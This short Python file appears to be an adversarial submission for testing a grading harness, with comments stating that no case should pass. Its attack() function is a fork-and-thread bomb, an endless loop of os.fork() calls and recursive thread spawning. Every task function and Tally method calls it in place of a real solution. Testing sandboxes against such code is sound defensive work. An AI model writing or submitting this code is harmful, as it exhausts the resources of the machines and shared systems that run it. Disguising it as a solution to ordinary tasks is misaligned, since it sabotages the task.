# expect: no case beyond those honestly solved may pass
# honest = []
"""Forks without end, in processes and in threads."""

import os
import threading


def attack():
    while True:
        try:
            os.fork()
        except OSError:
            pass
        try:
            threading.Thread(target=attack).start()
        except RuntimeError:
            pass


def add_all(numbers):
    return attack()


def run_jobs(jobs, work):
    return attack()


class Tally:
    def add(self, name, n=1):
        attack()

    def count(self, name):
        return attack()

    @property
    def total(self):
        return attack()
